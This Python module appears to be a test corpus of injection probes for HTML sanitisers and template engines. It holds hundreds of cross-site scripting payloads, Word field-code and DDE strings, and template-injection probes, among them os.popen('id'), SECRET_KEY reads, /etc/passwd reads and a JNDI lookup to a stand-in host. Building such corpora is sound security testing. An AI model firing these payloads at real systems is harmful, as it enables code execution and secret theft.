"""What do people write who want a page to run their script, or a template to do their sums?"""

from __future__ import annotations

from itertools import product
from typing import Final

RUN: Final = "alert(1)"
# A template that is evaluated where it should be shown writes this number.
PRODUCT: Final = str(31_337 * 7)

# Ways out of where a text may stand: an attribute, a comment, a title, a field, a script, a style.
WAYS_OUT: Final = (
    "",
    '">',
    "'>",
    "-->",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</option></select>",
    "]]>",
    "</svg>",
    "</noscript>",
)
# What is run once outside.
ELEMENTS: Final = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
)
# Ways out of an attribute that stay in the element.
IN_THE_ELEMENT: Final = tuple(
    f"{quote}{space}{handler}={RUN}{space}x={quote}"
    for quote, space, handler in product(
        ('"', "'", "`"), (" ", "/", "\t"), ("onmouseover", "onfocus autofocus", "onpointerenter")
    )
)
OFFICE: Final = (
    f"<!--[if gte mso 9]><script>{RUN}</script><![endif]-->",
    f"<!--[if mso]><xml><o:p><img src=x onerror={RUN}></o:p></xml><![endif]-->",
    f"<![if !vml]><img src=x onerror={RUN}><![endif]>",
    f"<xml:namespace prefix=v><v:shape onmouseover={RUN}></v:shape>",
    f'<v:imagedata src="x" onerror="{RUN}"/>',
    f"<o:OfficeDocumentSettings><o:script>{RUN}</o:script></o:OfficeDocumentSettings>",
    f"<w:sdt><w:sdtContent><script>{RUN}</script></w:sdtContent></w:sdt>",
    f'<p class=MsoNormal style="mso-element:field-begin" onclick={RUN}>',
    f'<?xml:namespace prefix = o ns = "urn:schemas-microsoft-com:office:office" /><o:p>{RUN}</o:p>',
    f"<span lang=EN-GB style='mso-field-code:\"HYPERLINK javascript:{RUN}\"'>x</span>",
    "=cmd|' /C calc'!A0",
    '{ HYPERLINK "javascript:alert(1)" }',
    '{ INCLUDETEXT "file:///etc/passwd" }',
    '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }',
    '</w:t></w:r><w:r><w:instrText>HYPERLINK "javascript:alert(1)"</w:instrText></w:r><w:r><w:t>',
    "]]></w:t><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
)
ADDRESSES: Final = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f" javascript:{RUN}",
    f"javascript://%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={RUN}>",
    f"vbscript:msgbox({RUN})",
    "//elsewhere.example/x.js",
    f"[x](javascript:{RUN})",
    f"![x](x onerror={RUN})",
    f'http://elsewhere.example/" onclick={RUN} "',
    "https://elsewhere.example/<script src=//elsewhere.example>",
)
PICTURES: Final = (
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN} /></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{RUN}>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=9>x</text></a></svg>",
    f'<svg><foreignObject><iframe srcdoc="<script>{RUN}</script>"></foreignObject></svg>',
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x"/></svg>',
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg><title><img src=x onerror={RUN}></title></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<math href=javascript:{RUN}>x</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<table background=javascript:{RUN}><td onclick={RUN}>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    "<base href=//elsewhere.example/>",
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    f"<link rel=stylesheet href=//elsewhere.example/x.css onload={RUN}>",
    f"<style>@import '//elsewhere.example/x.css';</style><x style=width:expression({RUN})>",
    f"<isindex type=image src=1 onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<audio src=x onerror={RUN}>",
    f"<button popovertarget=x onclick={RUN}>x</button><p popover id=x onbeforetoggle={RUN}>",
    f"<template><script>{RUN}</script></template>",
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f"<xss onpointerrawupdate={RUN} tabindex=1 autofocus onfocus={RUN}>",
    f"<frameset onload={RUN}>",
    f"<keygen autofocus onfocus={RUN}>",
    f"<plaintext><script>{RUN}</script>",
)
TEMPLATES: Final = (
    "{{ 31337 * 7 }}",
    "{{31337*7}}",
    "${31337*7}",
    "#{31337*7}",
    "<%= 31337*7 %>",
    "{% print(31337*7) %}",
    "{% for x in [31337*7] %}{{ x }}{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ request.viewer }}{{ 31337*7 }}",
    "{{ config }}{{ settings.SECRET_KEY }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{constructor.constructor('alert(1)')()}}",
    "[[31337*7]]",
    "@(31337*7)",
    "{{7*'7'}}{{ csrf_input }}",
    "{# comment #}{{ 31337*7 }}",
    '#eval("31337*7")',
    '#import "@preview/x:1.0.0"',
    '#read("/etc/passwd")',
    "#set page(fill: red)",
    "$31337 dot 7$",
    "*bold* _word_ `code` = heading",
    "%s %(x)s %d {0} {x}",
    "${jndi:ldap://elsewhere.example/x}",
)
ODD_LETTERS: Final = (
    f"＜script＞{RUN}＜/script＞",  # noqa: RUF001  (full-width, on purpose)
    f"\u2028<script>{RUN}</script>\u2029",
    f"\u202e<script>{RUN}</script>",
    f"<scr\u00adipt>{RUN}</scr\u00adipt>",
    f"<\u200bscript>{RUN}</script>",
    f"<script\x0b>{RUN}</script>",
    f"<img\x0csrc=x\x0conerror={RUN}>",
    f"<svg\xa0onload={RUN}>",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&amp;lt;script&amp;gt;{RUN}",
    f"\\x3cscript\\x3e{RUN}",
    f"\\u003cscript\\u003e{RUN}",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"¼script¾{RUN}¼/script¾",
    f"\ufeff<script>{RUN}</script>",
    f"<ſcript>{RUN}</ſcript>",  # noqa: RUF001  (a long s, on purpose)
    f"<img src=x onerror\u3000={RUN}>",
    "\ud7ff\ufffd\U0010fffd" + f"<b onclick={RUN}>",
    f"';{RUN}//",
    f'";{RUN}//',
    f"`${{{RUN}}}`",
    f"</script><script>{RUN}//",
    f"<!--><script>{RUN}</script>",
    f"<!-- --!><script>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?php {RUN} ?><script>{RUN}</script>",
    f"<img src='x' onerror='{RUN}' / >",
    f"<img/src=`x`onerror={RUN}>",
    f"<<script>{RUN};//<</script>",
    f"<script src=/x onerror={RUN}></script>",
    f"<script type=module>{RUN}</script>",
    f"<script type=importmap>{{}}</script><script>{RUN}</script>",
    "<script>" + "a" * 60 + f";{RUN}</script>",
)

PAYLOADS: Final = tuple(
    dict.fromkeys(
        (
            *(way + element for way, element in product(WAYS_OUT, ELEMENTS)),
            *IN_THE_ELEMENT,
            *OFFICE,
            *ADDRESSES,
            *PICTURES,
            *TEMPLATES,
            *ODD_LETTERS,
        )
    )
)
